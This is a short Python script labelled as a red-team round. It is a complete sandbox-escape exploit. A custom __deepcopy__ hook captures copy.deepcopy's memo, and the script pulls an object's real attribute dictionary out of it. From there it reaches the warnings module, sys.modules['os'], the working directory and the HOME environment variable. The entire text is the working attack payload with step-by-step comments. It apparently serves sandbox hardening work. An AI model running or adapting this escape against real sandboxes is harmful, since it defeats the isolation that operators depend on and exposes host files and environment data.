# family: red team, round 43 (copy.deepcopy memo keep-alive list hands out an object's real __dict__)
import copy
import warnings

BOX = []


def grab(self, memo):
    BOX.append(memo)
    return self


class Grabber:
    __deepcopy__ = grab


class Watch(warnings.catch_warnings):
    def __init__(self):
        self.hook = Grabber()
        copy.deepcopy(self)  # the memo keeps this object's real attribute dict alive
        super().__init__()  # ...into which catch_warnings now stores the warnings module


def real_dict(w):
    memo = BOX[0]
    for key in memo:
        value = memo[key]
        if isinstance(value, list):
            for item in value:
                if isinstance(item, dict) and "hook" in item and item["hook"] is w.hook:
                    return item
    return None


w = Watch()
mod = real_dict(w)["_module"]
print(mod)
print(mod.sys.modules["os"].getcwd())
print(mod.sys.modules["os"].environ["HOME"])
